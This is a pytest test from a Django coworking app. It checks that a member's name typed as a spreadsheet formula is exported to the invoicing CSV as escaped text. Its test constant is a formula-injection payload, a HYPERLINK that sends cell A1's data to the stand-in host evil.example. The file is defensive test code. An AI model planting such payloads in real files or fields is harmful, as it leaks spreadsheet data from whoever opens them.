"""The invoicing CSV writes a member's typed name as text, never as a formula (core.spreadsheets)."""

import csv
import io

import pytest
from django.urls import reverse

from coworking import services
from tests.coworking.factories import MONDAY, make_murat_tariff, make_newcomer, slot

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1;"Payer ici")'


def test_a_name_typed_as_a_formula_reaches_the_invoicing_csv_as_text(client, coworking_manager, alice, frozen, zone):
    alice.first_name = FORMULA
    alice.save()
    make_murat_tariff()
    make_newcomer(alice)
    services.book(zone, *slot(MONDAY), member=alice)
    client.force_login(coworking_manager)
    response = client.get(reverse("coworking:invoicing"), {"month": "2026-03", "format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][1] == f"'{FORMULA} Martin"
    assert rows[1][7] == "10,00"
